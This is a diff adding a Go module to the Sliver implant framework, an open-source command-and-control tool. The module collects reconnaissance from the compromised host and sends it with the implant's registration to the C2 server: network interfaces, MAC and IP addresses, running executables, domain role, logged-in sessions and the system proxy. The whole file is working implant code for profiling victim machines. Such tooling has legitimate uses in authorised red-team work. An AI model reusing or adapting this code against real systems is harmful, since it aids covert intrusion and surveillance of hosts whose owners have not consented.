@@ -0,0 +1,108 @@
+package snapshot
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"net"
+	"net/url"
+	"time"
+
+	"github.com/bishopfox/sliver/implant/sliver/presence"
+	"github.com/bishopfox/sliver/implant/sliver/proxy"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+// Take - Gather the environment snapshot sent with the registration, each part
+// is best effort and only reads local state so a failure just leaves it empty
+func Take(activeC2 string) *sliverpb.EnvironmentSnapshot {
+	snapshot := &sliverpb.EnvironmentSnapshot{
+		Interfaces: interfaces(),
+		Proxy:      systemProxy(activeC2),
+		Processes:  executables(),
+		Timestamp:  time.Now().Unix(),
+	}
+	snapshot.Domain, snapshot.DomainRole = domainRole()
+	report, err := presence.Report()
+	if err == nil {
+		snapshot.Sessions = report.Sessions
+	}
+	// {{if .Config.Debug}}
+	if err != nil {
+		log.Printf("[snapshot] presence: %s", err)
+	}
+	log.Printf("[snapshot] %s (%s), %d interface(s), %d session(s), %d executable(s), proxy '%s'",
+		snapshot.Domain, snapshot.DomainRole, len(snapshot.Interfaces), len(snapshot.Sessions),
+		len(snapshot.Processes), snapshot.Proxy)
+	// {{end}}
+	return snapshot
+}
+
+// Domain - The domain the host is joined to, empty if it isn't
+func Domain() string {
+	domain, _ := domainRole()
+	return domain
+}
+
+// interfaces - Interfaces that are up with an address, loopback is left out
+func interfaces() []*sliverpb.NetInterface {
+	netInterfaces, err := net.Interfaces()
+	if err != nil {
+		return nil
+	}
+	snapshotInterfaces := []*sliverpb.NetInterface{}
+	for _, iface := range netInterfaces {
+		if iface.Flags&net.FlagUp == 0 || iface.Flags&net.FlagLoopback != 0 {
+			continue
+		}
+		addresses, err := iface.Addrs()
+		if err != nil || len(addresses) == 0 {
+			continue
+		}
+		netIface := &sliverpb.NetInterface{
+			Index: int32(iface.Index),
+			Name:  iface.Name,
+		}
+		if iface.HardwareAddr != nil {
+			netIface.MAC = iface.HardwareAddr.String()
+		}
+		for _, address := range addresses {
+			netIface.IPAddresses = append(netIface.IPAddresses, address.String())
+		}
+		snapshotInterfaces = append(snapshotInterfaces, netIface)
+	}
+	return snapshotInterfaces
+}
+
+// systemProxy - The proxy the system would use for https traffic to the c2's
+// host, regardless of whether the c2 itself uses a proxy
+func systemProxy(activeC2 string) string {
+	target := "https://"
+	if c2URL, err := url.Parse(activeC2); err == nil {
+		target += c2URL.Hostname()
+	}
+	systemProxy := proxy.NewProvider("").GetHTTPSProxy(target)
+	if systemProxy == nil {
+		return ""
+	}
+	return systemProxy.String() // User info is obfuscated
+}